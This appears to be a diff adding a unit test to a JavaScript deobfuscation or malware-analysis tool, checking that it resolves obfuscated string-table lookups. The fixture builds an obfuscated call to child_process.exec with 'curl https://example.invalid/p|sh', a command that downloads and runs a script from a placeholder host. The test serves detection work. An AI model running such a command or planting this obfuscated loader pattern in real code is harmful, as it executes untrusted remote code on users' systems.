@@ -120,6 +120,20 @@ function _0xT() { const _0xa = ['${obfRc4('child_process', 'k1')}', '${obfRc4('e
     expect(f.imports.map((i) => i.module)).toEqual(['child_process', "_0xD(0x10, 'zz')"]);
   });
 
+  it('folds through a hand-written table lookup: `return T[i]`, an arrow with an offset, and not through other bodies', () => {
+    const table = `var _0xa1 = ['\\x63hild_process', 'exec', 'curl https://example.invalid/p|sh'];`;
+    const plain = facts(`${table}\nvar _0xb2 = function (_0xc3) { return _0xa1[_0xc3]; };\nrequire(_0xb2(0))[_0xb2(1)](_0xb2(2));`);
+    const call = plain.calls.find((c) => c.callee === 'child_process.exec');
+    expect(call?.args[0]?.value).toBe('curl https://example.invalid/p|sh');
+    const arrow = facts(`${table}\nconst d = (i) => _0xa1[i - 0x10];\nrequire(d(0x10))[d(0x11)](d(0x12));`);
+    expect(arrow.calls.find((c) => c.callee === 'child_process.exec')?.args[0]?.value).toBe('curl https://example.invalid/p|sh');
+    const plus = facts(`${table}\nfunction d(i) { return _0xa1[i + 1]; }\nrequire(d(-1));`);
+    expect(plus.imports.map((i) => i.module)).toEqual(['child_process']);
+    // A second parameter in the index is not a plain lookup.
+    const two = facts(`${table}\nconst d = (i, j) => _0xa1[i - j];\nrequire(d(0, 0));`);
+    expect(two.imports.map((i) => i.module)).toEqual(['d(0, 0)']);
+  });
+
   it('records every entry of a string table and decodes its base64 entries', () => {
     const f = facts(NEW_STYLE);
     expect(f.metrics.largestStringArray).toBe(6);
